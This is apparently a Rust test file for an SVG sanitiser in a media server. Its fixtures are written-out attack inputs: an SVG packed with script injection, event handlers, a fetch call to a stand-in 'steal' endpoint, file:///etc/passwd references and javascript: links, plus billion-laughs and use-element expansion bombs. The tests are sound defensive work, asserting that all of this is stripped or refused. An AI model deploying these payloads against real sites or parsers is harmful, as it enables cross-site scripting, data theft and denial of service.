use super::*;
use crate::server::delivery::files::{self, MediaFile};
use crate::server::delivery::renditions::{Format, Rendition, Size};
use crate::server::platform::config::Config;

fn png_of(width: u32, height: u32) -> Vec<u8> {
    let image = image::DynamicImage::ImageRgb8(image::RgbImage::from_pixel(width, height, image::Rgb([0, 128, 255])));
    renditions::encode(&image, Format::Png).expect("png")
}

fn base64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn decoded(png: &[u8]) -> image::RgbaImage {
    image::load_from_memory_with_format(png, image::ImageFormat::Png).expect("a PNG").to_rgba8()
}

/// Every trick to run script or reach outside the document, around one red square that must
/// survive. `local_png` is a real image file on disk (usvg's default resolver would embed it).
fn hostile(local_png: &str) -> String {
    format!(
        r##"<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="alert('load')">
  <style>@import url(http://example.com/evil.css); rect {{ stroke: none }}</style>
  <script type="text/javascript">alert('script')</script>
  <script>fetch('http://example.com/steal')</script>
  <defs><rect id="square" x="0" y="0" width="50" height="50" fill="#ff0000" onclick="alert('click')"/></defs>
  <use xlink:href="#square" onmouseover="alert('over')"/>
  <use href="http://example.com/sprite.svg#x"/>
  <use xlink:href="file:///etc/passwd#x"/>
  <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml"><script>alert('html')</script><iframe src="http://example.com/frame"></iframe></div></foreignObject>
  <image href="http://example.com/x.png" width="10" height="10"/>
  <image xlink:href="file:///etc/passwd" width="10" height="10"/>
  <image xlink:href="{local_png}" width="10" height="10"/>
  <image href="data:image/svg+xml;base64,{nested}" width="10" height="10"/>
  <a xlink:href="javascript:alert('link')"><circle cx="150" cy="50" r="20" fill="#00ff00"/></a>
  <animate attributeName="x" to="100" dur="1s"/>
  <set attributeName="fill" to="blue"/>
  <iframe src="http://example.com/frame2"/>
</svg>"##,
        nested = base64(br#"<svg xmlns="http://www.w3.org/2000/svg" width="5" height="5"><script>alert('nested')</script><rect width="5" height="5"/></svg>"#),
    )
}

#[test]
fn a_hostile_svg_loses_everything_but_its_drawing() {
    let dir = tempfile::tempdir().expect("a temp dir");
    let local = dir.path().join("local.png");
    std::fs::write(&local, png_of(8, 8)).expect("write");
    let svg = sanitize_svg(hostile(local.to_str().expect("utf-8 path")).as_bytes()).expect("sanitised");
    let text = svg.text();
    for gone in [
        "script", "alert", "onload", "onclick", "onmouseover", "foreignObject", "iframe", "example.com", "file:", "etc/passwd", "javascript", "@import",
        "<a", "<style", "<animate", "<set", "<use", "<image", "<!DOCTYPE", "local.png",
    ] {
        assert!(!text.contains(gone), "{gone:?} survived:\n{text}");
    }
    assert_eq!((svg.width(), svg.height()), (200, 100));
    // The drawing is still there: the used square and the linked circle, drawn where they were.
    let pixels = decoded(&render_png(&svg, 400).expect("rendered"));
    assert_eq!(pixels.dimensions(), (400, 200));
    assert_eq!(pixels.get_pixel(50, 50).0, [255, 0, 0, 255], "the square");
    assert_eq!(pixels.get_pixel(300, 100).0, [0, 255, 0, 255], "the circle");
    assert_eq!(pixels.get_pixel(150, 150).0, [255, 255, 255, 255], "white where nothing is drawn");
}

#[test]
fn a_sanitised_svg_is_sanitised_again_unchanged() {
    let once = sanitize_svg(hostile("missing.png").as_bytes()).expect("sanitised");
    let twice = sanitize_svg(once.text().as_bytes()).expect("sanitised again");
    assert_eq!(once.text(), twice.text());
}

#[test]
fn text_becomes_paths_in_the_bundled_fonts_and_shapes_keep_their_place() {
    let source = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 200">
      <rect x="0" y="0" width="400" height="100" fill="#102030"/>
      <text x="20" y="170" font-family="Helvetica, Arial" font-size="48" fill="#000000">Sales 2024</text>
    </svg>"##;
    let svg = sanitize_svg(source.as_bytes()).expect("sanitised");
    assert_eq!((svg.width(), svg.height()), (400, 200), "the viewBox's size");
    assert!(!svg.text().contains("<text"), "text is drawn as paths:\n{}", svg.text());
    assert!(svg.text().matches("<path").count() >= 2, "{}", svg.text());
    let png = render_png(&svg, 800).expect("rendered");
    let inspected = storage::inspect(&png).expect("an image");
    assert_eq!((inspected.format, inspected.width, inspected.height), (image::ImageFormat::Png, 800, 400));
    let pixels = decoded(&png);
    assert_eq!(pixels.get_pixel(400, 100).0, [0x10, 0x20, 0x30, 255], "the rectangle");
    // A font nobody bundled falls back to ours: the words are drawn (dark pixels on white).
    let inked = (0..800).flat_map(|x| (220..400).map(move |y| (x, y))).filter(|&(x, y)| pixels.get_pixel(x, y).0[0] < 100).count();
    assert!(inked > 2_000, "only {inked} dark pixels where the words are");
}

#[test]
fn the_png_has_the_asked_long_edge_and_keeps_the_aspect() {
    let tall = sanitize_svg(br#"<svg xmlns="http://www.w3.org/2000/svg" width="300" height="900"><rect width="300" height="900"/></svg>"#).expect("ok");
    let i = storage::inspect(&render_png(&tall, 600).expect("png")).expect("an image");
    assert_eq!((i.width, i.height), (200, 600));
    assert_eq!(render_png(&tall, 0).unwrap_err(), VectorError::RenderSize(0));
    assert_eq!(render_png(&tall, MAX_DIMENSION + 1).unwrap_err(), VectorError::RenderSize(MAX_DIMENSION + 1));
}

#[test]
fn oversized_input_and_absurd_sizes_are_refused() {
    let mut big = br#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><!--"#.to_vec();
    big.resize(MAX_SVG_BYTES + 1, b' ');
    assert_eq!(sanitize_svg(&big).unwrap_err(), VectorError::TooLarge(MAX_SVG_BYTES + 1));
    for (w, h) in [("100000", "10"), ("10", "16385"), ("0", "10"), ("-5", "10")] {
        let source = format!(r#"<svg xmlns="http://www.w3.org/2000/svg" width="{w}" height="{h}"><rect width="5" height="5"/></svg>"#);
        assert!(matches!(sanitize_svg(source.as_bytes()), Err(VectorError::Dimensions(..) | VectorError::Svg(_))), "{w} × {h}");
    }
    let largest = r#"<svg xmlns="http://www.w3.org/2000/svg" width="16384" height="10"><rect width="5" height="5"/></svg>"#;
    assert_eq!(sanitize_svg(largest.as_bytes()).map(|s| (s.width(), s.height())), Ok((16384, 10)));
}

#[test]
fn entity_declarations_are_refused_so_billion_laughs_cannot_expand() {
    let mut lol = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n<!ENTITY lol \"lol\">\n");
    for level in 1..=9 {
        let previous = if level == 1 { "lol".to_string() } else { format!("lol{}", level - 1) };
        lol.push_str(&format!("<!ENTITY lol{level} \"{}\">\n", format!("&{previous};").repeat(10)));
    }
    lol.push_str("]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><text>&lol9;</text></svg>");
    assert_eq!(sanitize_svg(lol.as_bytes()).unwrap_err(), VectorError::Entities);
}

#[test]
fn use_bombs_too_many_elements_and_deep_nesting_are_refused() {
    // Ten levels of ten copies: ten billion elements once expanded, from a few hundred bytes.
    let mut bomb = String::from(r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><defs><rect id="l0" width="1" height="1"/>"#);
    for level in 1..=10 {
        bomb.push_str(&format!(r#"<g id="l{level}">"#));
        bomb.push_str(&format!(r##"<use xlink:href="#l{}"/>"##, level - 1).repeat(10));
        bomb.push_str("</g>");
    }
    bomb.push_str(r##"</defs><use xlink:href="#l10"/></svg>"##);
    let started = std::time::Instant::now();
    assert!(matches!(sanitize_svg(bomb.as_bytes()), Err(VectorError::TooComplex(_))));
    assert!(started.elapsed() < std::time::Duration::from_secs(5), "refused without expanding it");

    let many = format!(r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{}</svg>"#, "<rect/>".repeat(MAX_ELEMENTS as usize + 1));
    assert!(matches!(sanitize_svg(many.as_bytes()), Err(VectorError::TooComplex(_))));

    let deep = format!(r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{}{}</svg>"#, "<g>".repeat(300), "</g>".repeat(300));
    assert_eq!(sanitize_svg(deep.as_bytes()).unwrap_err(), VectorError::TooDeep);

    // A marker on every vertex of a long path multiplies: counted as such.
    let marker = format!(r#"<g>{}</g>"#, "<circle r=\"1\"/>".repeat(100));
    let path: String = (0..10_000).map(|i| format!("L{i} {i}")).collect();
    let markers = format!(
        r##"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><marker id="m">{marker}</marker><path d="M0 0{path}" marker-mid="url(#m)"/></svg>"##
    );
    assert!(matches!(sanitize_svg(markers.as_bytes()), Err(VectorError::TooComplex(_))));
}

#[test]
fn embedded_raster_images_are_kept_within_bounds() {
    let small = format!(
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image href="data:image/png;base64,{}" width="20" height="20"/></svg>"#,
        base64(&png_of(4, 4))
    );
    let svg = sanitize_svg(small.as_bytes()).expect("kept");
    assert!(svg.text().contains("data:image/png;base64,"), "{}", svg.text());
    assert_eq!(decoded(&render_png(&svg, 20).expect("png")).get_pixel(10, 10).0, [0, 128, 255, 255]);

    // Labelled as an SVG, but a PNG: the bytes decide.
    let mislabelled = small.replace("data:image/png", "data:image/svg+xml");
    assert!(sanitize_svg(mislabelled.as_bytes()).expect("kept").text().contains("data:image/png;base64,"));

    let wide = format!(
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image href="data:image/png;base64,{}" width="20" height="20"/></svg>"#,
        base64(&png_of(MAX_DIMENSION + 1, 1))
    );
    assert_eq!(sanitize_svg(wide.as_bytes()).unwrap_err(), VectorError::Images);
}

#[test]
fn what_is_not_an_svg_is_refused_or_not_taken_for_one() {
    assert!(looks_like_svg(b"\xEF\xBB\xBF \n<?xml version=\"1.0\"?><svg/>"));
    assert!(looks_like_svg(b"<svg xmlns=\"http://www.w3.org/2000/svg\"/>"));
    assert!(looks_like_svg(b"<!DOCTYPE svg><svg/>"));
    assert!(!looks_like_svg(&png_of(2, 2)));
    assert!(!looks_like_svg(b"<html><body>no</body></html>"));
    assert!(matches!(sanitize_svg(b"<html xmlns=\"http://www.w3.org/1999/xhtml\"><body/></html>"), Err(VectorError::Svg(_))));
    assert!(matches!(sanitize_svg(b"<svg xmlns=\"http://www.w3.org/2000/svg\"><rect"), Err(VectorError::Xml(_))));
    assert_eq!(sanitize_svg(b"\x1f\x8b\x08\x00\xff\xfe").unwrap_err(), VectorError::NotText);
}

#[test]
fn the_copy_is_the_sanitised_svg_with_a_png_and_thumbnails_made_from_it() {
    let copy = prepare_copy(hostile("missing.png").as_bytes(), 400).expect("prepared");
    let text = String::from_utf8(copy.svg.clone()).expect("utf-8");
    assert!(text.starts_with("<svg") && !text.contains("script"), "{text}");
    assert_eq!((copy.width, copy.height), (RASTER_EDGE, RASTER_EDGE / 2));
    let png = storage::inspect(&copy.png).expect("png");
    assert_eq!((png.format, png.width, png.height), (image::ImageFormat::Png, RASTER_EDGE, RASTER_EDGE / 2));
    for (bytes, format) in [(&copy.thumb_jpeg, image::ImageFormat::Jpeg), (&copy.thumb_webp, image::ImageFormat::WebP)] {
        let t = storage::inspect(bytes).expect("a thumbnail");
        assert_eq!((t.format, t.width, t.height), (format, 400, 200));
    }
    assert!(prepare_copy(b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"0\" height=\"1\"/>", 400).is_err());
}

/// The copier's files in a real (local) store: the SVG is served as stored, and a rendition
/// asked of it is made from the PNG beside it.
#[tokio::test]
async fn renditions_of_a_stored_vector_picture_are_made_from_its_png() {
    let dir = tempfile::tempdir().expect("a temp dir");
    let config = Config { data_dir: Some(dir.path().to_path_buf()), ..Config::default() };
    let store = storage::Storage::open(&config, None).expect("local storage");
    let copy = prepare_copy(hostile("missing.png").as_bytes(), 400).expect("prepared");
    let svg_key = storage::object_key("job1", "ab12.svg");
    storage::put(&store, &svg_key, copy.svg.clone().into()).await.expect("put svg");
    storage::put(&store, &storage::object_key("job1", "ab12.png"), copy.png.clone().into()).await.expect("put png");

    let stored = MediaFile::Stored(svg_key.clone());
    assert_eq!(stored.content_type(), "image/svg+xml");
    assert_eq!(read_all(&store, &config, stored).await, copy.svg);

    let rendition = Rendition { hash: "ab12".into(), size: Size::Width(600), format: Format::Jpeg };
    let wanted = MediaFile::Rendition { key: storage::object_key("job1", &rendition.file_name()), original: svg_key, rendition };
    let made = storage::inspect(&read_all(&store, &config, wanted).await).expect("an image");
    assert_eq!((made.format, made.width, made.height), (image::ImageFormat::Jpeg, 600, 300));
}

async fn read_all(store: &storage::Storage, config: &Config, file: MediaFile) -> Vec<u8> {
    use futures::StreamExt;
    let (_, mut stream) = files::open(store, &config.storage, file).await.expect("opened");
    let mut out = Vec::new();
    while let Some(chunk) = stream.next().await {
        out.extend_from_slice(&chunk.expect("a chunk"));
    }
    out
}

#[test]
fn ids_that_would_be_written_back_as_broken_xml_are_refused_or_written_well_formed() {
    for id in ["a&amp;b", "&lt;x", "q&quot;r"] {
        let svg = format!(r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect id="{id}" width="10" height="10" fill="red"/></svg>"#);
        if let Ok(clean) = sanitize_svg(svg.as_bytes()) {
            roxmltree::Document::parse(clean.text()).unwrap_or_else(|e| panic!("{id}: {e}: {}", clean.text()));
        }
    }
}
